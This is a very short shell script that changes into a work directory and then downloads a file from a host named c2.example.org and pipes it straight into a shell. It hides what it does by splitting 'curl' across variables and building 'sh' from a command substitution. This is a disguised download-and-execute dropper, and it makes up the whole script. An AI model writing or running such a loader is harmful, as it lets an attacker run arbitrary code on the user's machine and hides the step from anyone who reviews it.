#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
a=cu; b=rl; $a$b -s http://c2.example.org/i.py | s$(echo h)
